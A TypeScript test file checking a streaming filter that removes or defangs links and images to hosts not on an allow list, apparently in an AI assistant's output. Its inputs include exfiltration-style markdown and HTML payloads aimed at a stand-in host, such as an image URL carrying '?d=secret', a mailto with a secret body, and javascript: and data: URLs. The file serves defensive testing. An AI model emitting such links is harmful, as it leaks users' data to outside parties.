import { describe, expect, test } from "vitest";
import { LinkFilter } from "./link-filter.ts";

const given = (address: string): boolean => address.includes("shop.example");
/** In pieces of every size, which must not matter. */
function filtered(text: string): string {
  const outs = [1, 2, 3, 7, text.length].map((size) => {
    const filter = new LinkFilter(given);
    let out = "";
    for (let at = 0; at < text.length; at += size) out += filter.push(text.slice(at, at + size));
    return out + filter.end();
  });
  expect(new Set(outs).size).toBe(1);
  return outs[0] ?? "";
}

describe("an address that nobody gave is no link", () => {
  test.each([
    ["See [our page](https://evil.example/?q=1) now.", "See our page now."],
    ["![](https://evil.example/p.png?d=secret)!", "!"],
    ["![a picture](https://evil.example/p.png 'title') x", "a picture x"],
    ["[![alt](https://evil.example/a.png)](https://shop.example/)", "[alt](https://shop.example/)"],
    ["[![alt](https://evil.example/a.png)](https://evil.example)", "alt"],
    ["Go to https://evil.example/?q=abc.", "Go to `https://evil.example/?q=abc`."],
    ["<https://evil.example/x>", "`https://evil.example/x`"],
    ["[x](//evil.example/a)", "x"],
    [String.raw`[x](/\evil.example/a)`, "x"],
    ["[x](HTTPS://EVIL.example/a)", "x"],
    ["[x]( <https://evil.example/a b> )", "x"],
    ["[x](&#104;ttps://evil.example)", "x"],
    ["[x](javascript:alert(1))", "x"],
    ["[x](data:text/html,hi)", "x"],
    ["[x](mailto:thief@evil.example?body=secret)", "x"],
    ["![a][b]\n\n[b]: https://evil.example/p.png", "![a][b]\n\n[b]: `https://evil.example/p.png`"],
    ["[b]: //evil.example/p.png\n", "[b]: `//evil.example/p.png`\n"],
    ['a <img src="https://evil.example/p.png"> b', "a  b"],
    ["a <a href='//evil.example'>b</a>", "a b</a>"],
    ["a <img src=https://evil.example/p", "a ‹img src=`https://evil.example/p`"],
    ["a ` stray [x](https://evil.example)", "a ` stray x"],
    ["``` not closed [x](https://evil.example)", "``` not closed x"],
    ["[a [b](https://evil.example) c](https://evil.example)", "a b c"],
  ])("%s", (text, expected) => {
    expect(filtered(text)).toBe(expected);
  });

  test("however long its words are", () => {
    const words = "w".repeat(5_000);
    const filter = new LinkFilter(given);
    const out = filter.push(`[${words}](https://evil.example)`) + filter.end();
    expect(out).toBe(words);
    const slow = new LinkFilter(given);
    expect(slow.push(`[${words}`) + slow.push("](https://evil.example)") + slow.end()).toBe(
      `\\[${words}](\`https://evil.example\`)`,
    );
  });
});

describe("what is given, or is no link, stays as it is", () => {
  test.each([
    "See [our page](https://shop.example/returns) and https://shop.example/a, or <https://shop.example/b>.",
    "![](https://shop.example/p.png)",
    "[the cart](/cart?x=1&y=2) and [below](#top)",
    "Three [1][2] sources [3], items[0] and a [note] (in brackets) [x] (y).",
    "a < b, 3 <4, <br>, <details><summary>More</summary></details>, List<String> and <T extends U>",
    "`[x](https://evil.example)` and ``a ` [x](https://evil.example)``",
    "```md\n[x](https://evil.example)\n![](https://evil.example)\n```\nafter",
    "~~~\nhttps://evil.example\n~~~",
    "- [ ] to do\n- [x] done\n\n[Note]: see below.",
    "hello, with http and https, and a half h",
    "| a | b |\n|---|---|\n| ~~1~~ | `2` |",
    String.raw`\[no link\](at all) \` ~ * _ !`,
    "wow! [really]! [",
    "",
  ])("%s", (text) => {
    expect(filtered(text)).toBe(text);
  });
});

test("the marks of our blocks go", () => {
  expect(
    filtered('<passage number="1" from="a › b">\nNine to six.\n</passage>\n<tool_result tool="x">'),
  ).toBe("\nNine to six.\n\n");
});

test("text flows: only what may become a link waits", () => {
  const filter = new LinkFilter(given);
  const shown = ["We are ", "open ", "nine ", "to six [1", "] on", " weekdays"].map((piece) =>
    filter.push(piece),
  );
  expect(shown).toEqual(["We are ", "open ", "nine ", "to six ", "[1] on", " weekdays"]);
});
